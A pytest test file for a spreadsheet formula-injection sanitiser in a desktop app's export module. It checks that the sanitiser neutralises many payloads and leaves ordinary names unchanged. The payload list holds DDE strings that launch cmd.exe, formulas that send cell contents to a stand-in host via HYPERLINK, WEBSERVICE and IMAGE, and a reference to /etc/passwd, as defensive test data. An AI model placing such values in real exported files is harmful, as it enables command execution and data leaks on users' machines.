import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from greenstat_desktop.core.exports.formulas import harmless

INVISIBLE = ("\u00a0", "\ufeff", "\u200b", "\u200e", "\u2060", "\u00ad", "\u3000", "\u3164", "\u2800", "\ufe0f", "\x1f")

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE('cmd';'/C calc';'x')",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("https://example.org?leak="&A1;"Error: click here")',
    '=IMPORTXML(CONCAT("https://example.org/?v=";CONCATENATE(A2:E2));"//a/a10")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMAGE("https://example.org/?"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "+79001234567",
    "-",
    "=",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tAnna",
    "\rAnna",
    "\nAnna",
    " =1+1",
    "   \t =1+1",
    *(f"{letter}=1+1" for letter in INVISIBLE),
    " \u200b\u00a0\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    " ＝1+1",
    "{=1+1}",
    "{=cmd|' /C calc'!A0}",
    "｛＝1+1}",
    '"=1+1"',
    "\"=cmd|' /C calc'!A0\"",
    "Anna\n=1+1",
    "Anna\r=1+1",
    "Anna\r\n @SUM(1)",
    "Anna\u2028=1+1",
    "Anna\x85=1+1",
    "Anna\x0b=1+1",
    "Anna\n\n \u200b＝1+1",
    "Anna\t=1+1",
    "Anna;=1+1",
    'Anna","=1+1',
    "Anna, @SUM(1)",
    "\x00=1+1",
]

HARMLESS = [
    "",
    "Anna",
    "Анна-Мария",
    "José + María",
    "anna@example.org",
    "O'Brien, Pat",
    "王小明",
    "محمد",
    "a = b",
    "Anna ;-)",
    "Tea & Co. (since 1999)",
    "🎉 party",
    "{brackets}",
    '"Nickname"',
    "two\nlines",
    "120650379300963@lid",
]

# What a spreadsheet may read past, and what it may then run; said again, the long way round.
LINES = re.compile("[\t\n\x0b\x0c\r\x1c-\x1e\x85\u2028\u2029]")


def runs(line: str) -> bool:
    seen = line.lstrip('"{｛').lstrip()
    while seen and (unicodedata.category(seen[0]) in {"Cc", "Cf", "Zs"} or seen[0] in '"{｛'):
        seen = seen[1:]
    return unicodedata.normalize("NFKC", seen[:1]).startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_defused_on_every_line(payload: str) -> None:
    defused = harmless(payload)
    assert not any(runs(line) for line in LINES.split(defused))
    assert not defused.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_readable_but_for_apostrophes(payload: str) -> None:
    assert harmless(payload).replace("'", "") == payload.replace("'", "").replace("\x00", "\ufffd")


def test_there_are_as_many_payloads_as_were_tried_in_libreoffice() -> None:
    assert len(PAYLOADS) >= 43


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_the_apostrophe_stands_in_front() -> None:
    assert harmless("=1+1") == "'=1+1"
    assert harmless("\u00a0=1+1") == "'\u00a0=1+1"
    assert harmless("Anna\n=1+1") == "Anna\n'=1+1"


def test_a_cell_that_another_separator_would_begin_is_defused_too() -> None:
    assert harmless("Anna;=1+1") == "Anna;'=1+1"


def test_every_sign_that_compatibility_makes_a_formula_is_known() -> None:
    signs = [chr(code) for code in range(0x110000) if unicodedata.normalize("NFKC", chr(code))[:1] in {*"=+-@"}]
    assert [sign for sign in signs if harmless(f"{sign}1") != f"'{sign}1"] == []


def test_every_character_that_shows_nothing_is_seen_through() -> None:
    unseen = [
        chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in {"Zs", "Zl", "Zp", "Cc", "Cf"}
    ]
    assert [letter for letter in unseen if not harmless(f"{letter}=1").startswith("'")] == []


@pytest.mark.parametrize("code", [0, 0xD800, 0xDFFF])
def test_what_no_file_can_hold_is_replaced(code: int) -> None:
    assert harmless(f"An{chr(code)}na") == "An\ufffdna"


@pytest.mark.parametrize("text", ["\n" * 200_000, "\u200b" * 200_000, "=" * 200_000, ", " * 100_000, "\t " * 100_000])
def test_hostile_lengths_take_no_longer_than_others(text: str) -> None:
    assert len(harmless(text)) <= 2 * len(text) + 1


@given(st.lists(st.sampled_from([*"=+-@＝\t\r\n \u200b\ufeff{\",;'a1\x00\ud800"])).map("".join))
def test_no_text_at_all_leaves_a_formula(text: str) -> None:
    defused = harmless(text)
    assert not any(runs(line) for line in LINES.split(defused))
    assert harmless(defused) == defused
    defused.encode()
